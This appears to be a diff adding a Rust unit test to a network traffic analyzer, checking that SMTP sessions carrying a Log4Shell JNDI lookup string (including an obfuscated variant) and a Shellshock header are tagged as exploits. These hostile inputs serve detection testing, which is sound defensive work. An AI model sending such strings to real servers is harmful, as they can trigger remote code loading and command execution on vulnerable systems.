@@ -87,6 +87,18 @@ fn passwords_in_clear_are_seen() {
 }
 
 #[test]
+fn exploits_are_marked() {
+    let row = row(&[
+        (Resp, b"220 x ESMTP\r\n"),
+        (Orig, b"EHLO x\r\nMAIL FROM:<${jndi:dns://x}@zz.test>\r\nDATA\r\n"),
+        (Resp, b"250 x\r\n250 ok\r\n354 go\r\n"),
+        (Orig, b"Subject: ${${::-j}ndi:ldap://x/zz}\r\nX: () { :;};\r\n\r\nwords\r\n.\r\n"),
+        (Resp, b"250 ok\r\n"),
+    ]);
+    assert_eq!(row["marks"], "[exploit-log4shell, exploit-shellshock]");
+}
+
+#[test]
 fn tls_ends_what_is_seen() {
     let row = row(&[
         (Orig, b"EHLO erikas-macbook\r\n"),
